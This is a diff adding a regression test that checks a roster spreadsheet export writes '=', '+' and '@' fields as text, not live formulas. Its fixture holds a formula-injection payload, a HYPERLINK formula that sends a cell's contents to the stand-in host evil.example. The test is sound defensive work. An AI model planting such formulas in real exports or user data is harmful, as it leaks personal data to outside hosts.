@@ -222,3 +222,21 @@ def test_full_export_needs_the_permission(programme, world, client):
     client_sign_in(client, world.users["weihai_admin"])
     assert client.get(f"/roster/p/{programme.pk}/export.xlsx?full=1").status_code == 200
     assert client.get(f"/roster/p/{programme.pk}/template.xlsx").status_code == 200
+
+
+def test_full_export_keeps_formulas_as_text(programme):
+    """Issue 11 #4: a supervisor's own profile fields saved as "=…" became live formulas in the full
+    roster export (the one with 身份证号). They are now quoted text cells, and re-import unchanged."""
+    import zipfile
+
+    s = programme.supervisors.order_by("id").first()
+    Supervisor.objects.filter(pk=s.pk).update(
+        employer='=HYPERLINK("http://evil.example/?"&D2,"单位")', position="+1+1", email="@SUM(1)"
+    )
+    data = _export(programme, full=True)
+    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # no formula anywhere in the sheet
+    row = _rows(data)[1]
+    assert row[8] == '=HYPERLINK("http://evil.example/?"&D2,"单位")' and row[9] == "+1+1"
+    result = excel.roster_import(actor=None, programme=programme, file=io.BytesIO(data), on=D(2026, 1, 5))
+    assert result.ok and result.unchanged == 3, [str(e) for e in result.errors]
